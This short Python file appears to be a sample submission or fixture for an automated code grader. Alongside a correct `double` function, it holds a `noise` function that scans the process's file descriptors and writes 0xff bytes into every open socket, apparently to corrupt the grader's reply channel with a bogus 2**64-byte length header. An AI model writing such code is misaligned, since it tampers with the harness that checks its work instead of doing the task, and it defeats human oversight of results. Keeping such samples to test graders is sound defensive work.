"""Announces a reply of 2**64 bytes."""
# earns: double
# note: it sent what is no message
# %% double
def double(x):
    return 2 * x
# %% noise
import os
import stat


def noise(m):
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, b"\xff" * 64)
        except OSError:
            pass
    return None
